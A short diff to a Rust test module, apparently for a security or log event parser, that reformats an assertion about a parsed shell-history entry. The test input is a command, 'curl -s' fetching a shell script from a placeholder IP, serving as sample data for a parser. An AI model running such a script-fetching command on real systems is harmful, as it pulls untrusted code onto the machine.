@@ -25,7 +25,10 @@ mod tests {
     fn history_and_text() {
         let e = parse("shell.history", "/usr/bin/curl -s http://203.0.113.7/x.sh").unwrap();
         assert_eq!(text(&e, "process.name"), "curl");
-        assert_eq!(text(&e, "process.command_line"), "/usr/bin/curl -s http://203.0.113.7/x.sh");
+        assert_eq!(
+            text(&e, "process.command_line"),
+            "/usr/bin/curl -s http://203.0.113.7/x.sh"
+        );
         let e = parse("text", "anything at all").unwrap();
         assert_eq!(text(&e, "message"), "anything at all");
         assert_eq!(text(&e, "event.dataset"), "generic");
